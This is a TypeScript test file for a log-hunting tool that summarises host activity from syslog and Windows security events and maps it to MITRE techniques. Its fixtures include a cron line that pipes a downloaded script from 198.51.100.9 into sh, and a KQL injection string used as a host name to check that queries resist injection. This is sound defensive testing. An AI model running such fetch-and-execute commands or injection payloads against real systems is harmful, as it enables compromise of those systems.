import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { loadCatalog } from '../../src/notebooklet/catalog.ts'
import type { RunRequest } from '../../src/notebooklet/desk.ts'
import { openDesk } from '../../src/notebooklet/open-desk.ts'
import type { ResultData } from '../../src/notebooklet/result-data.ts'
import { openWorkspace } from '../../src/providers/open-workspace.ts'
import { temporaryFolder } from '../support/huntlet.ts'

const folder = resolve(import.meta.dirname, '../..')
const catalog = await loadCatalog([{ origin: 'shipped', folder }])
const labelled = resolve(folder, '../shared/data/evtx-to-mitre')
const made = temporaryFolder()
afterAll(() => made.remove())

async function run(paths: readonly string[], request: RunRequest): Promise<ResultData> {
  const workspace = await openWorkspace({ kind: 'local', paths })
  try {
    return (await (await openDesk(workspace, catalog)).run(request)).data
  } finally {
    await workspace.close()
  }
}

/** A folder with one table. */
function logs(name: string, table: string, rows: readonly object[]): string {
  const path = join(made.path, name)
  mkdirSync(path, { recursive: true })
  writeFileSync(join(path, `${table}.jsonl`), rows.map((row) => JSON.stringify(row)).join('\n'))
  return path
}

const section = ({ sections }: ResultData, id: string) => sections.find((each) => each.id === id)!
const column = (result: ResultData, id: string, name: string) => section(result, id).table?.column(name) ?? []

describe('the system of a host', () => {
  const message = { TimeGenerated: '2026-01-01T00:00:00Z', Computer: 'box01', Facility: 'cron', SyslogMessage: 'tick' }

  it('is Linux where its syslog says so, and not known where nothing does', async () => {
    const linux = await run([logs('linux', 'Syslog', [{ ...message, SourceSystem: 'Linux' }])], {
      notebooklet: 'host-summary',
      value: 'box01',
    })
    expect(column(linux, 'facts', 'System')).toEqual(['Linux'])
    const relayed = await run([logs('relayed', 'Syslog', [message])], { notebooklet: 'host-summary', value: 'box01' })
    expect(column(relayed, 'facts', 'System')).toEqual([''])
    expect(column(relayed, 'matches', 'System')).toEqual([''])
  })

  it('does not keep what Linux logs from being read', async () => {
    const rows = [
      { ...message, Facility: 'authpriv', SyslogMessage: "add 'eve' to group 'sudo'" },
      { ...message, SyslogMessage: '(root) CMD (curl http://198.51.100.9/x.sh | sh)' },
    ]
    const result = await run([logs('changed', 'Syslog', rows)], { notebooklet: 'host-summary', value: 'box01' })
    expect(column(result, 'account-actions', 'Meaning')).toEqual(['Member added to a group of administrators'])
    expect(column(result, 'commands', 'Command')).toEqual(['curl http://198.51.100.9/x.sh | sh'])
    expect(column(result, 'observables', 'Observable')).toContain('http://198.51.100.9/x.sh')
  })
})

describe('a name of a host that is KQL', () => {
  it('is a name that no host has', async () => {
    const path = logs('hostile', 'SecurityEvent', [
      { TimeGenerated: '2026-01-01T00:00:00Z', Computer: 'a', EventID: 1102 },
    ])
    for (const notebooklet of ['host-logons-summary', 'windows-host-events', 'windows-host-explorer']) {
      const result = await run([path], { notebooklet, value: `' or 1 == 1 | take 1 //\n"` })
      expect(result.sections.filter(({ status }) => status === 'failed')).toEqual([])
      expect(result.sections.every(({ table }) => (table?.rowCount ?? 0) === 0)).toBe(true)
    }
  })
})

describe('a host that is not there', () => {
  const path = () =>
    logs('two-hosts', 'SecurityEvent', [
      { TimeGenerated: '2026-01-01T00:00:00Z', Computer: 'web01.contoso.com', EventID: 1102 },
      { TimeGenerated: '2026-01-01T00:00:00Z', Computer: 'db01.contoso.com', EventID: 1102 },
    ])

  it.each(['host-summary', 'host-logons-summary', 'windows-host-events', 'windows-host-explorer'])(
    'is never called clean by %s: the nearest are offered, and nothing else is said',
    async (notebooklet) => {
      const result = await run([path()], { notebooklet, value: 'web1' })
      const [matches, ...others] = result.sections
      expect(matches?.notices[0]).toBe('No “web1”. Did you mean web01.contoso.com?')
      expect(others.map(({ status }) => status)).toEqual(others.map(() => 'skipped'))
    },
  )

  it('is another thing than no host at all, which are all of them', async () => {
    const all = await run([path()], { notebooklet: 'windows-host-events' })
    expect(section(all, 'matches')).toMatchObject({
      status: 'skipped',
      notices: ['Skipped: no value was given, so all of them are meant.'],
      queries: [],
    })
    expect(column(all, 'techniques', 'Count')).toEqual([2])
    const one = await run([path()], { notebooklet: 'windows-host-events', value: 'db' })
    expect(column(one, 'notable-events', 'Computer')).toEqual(['db01.contoso.com'])
  })
})

describe.skipIf(!existsSync(labelled))('recorded attacks', () => {
  it('show their techniques on a domain controller without knowing where to look', async () => {
    const result = await run([labelled], { notebooklet: 'host-summary', value: 'rootdc1.offsec.lan' })
    expect(column(result, 'techniques', 'Technique')).toEqual(
      expect.arrayContaining(
        'T1003.003 T1068 T1098 T1098.007 T1110.001 T1110.003 T1136 T1136.002 T1207 T1543.003 T1558 T1558.003 T1558.004 T1574'.split(
          ' ',
        ),
      ),
    )
  })

  it('show what was changed on all hosts', async () => {
    const result = await run([labelled], { notebooklet: 'windows-host-events' })
    const techniques = column(result, 'techniques', 'Technique').join(' ')
    for (const id of 'T1053.005 T1070.001 T1070.006 T1078.001 T1134.005 T1484.002 T1550.002 T1562.002 T1569.002'.split(
      ' ',
    ))
      expect(techniques).toContain(id)
  })

  it('show guesses of passwords', async () => {
    const result = await run([labelled], { notebooklet: 'host-logons-summary' })
    expect(new Set(column(result, 'guessing', 'Kind'))).toEqual(new Set(['Guessing of names', 'Brute force']))
    expect(column(result, 'failures', 'Reason')).not.toContain('(not said)')
  })
})
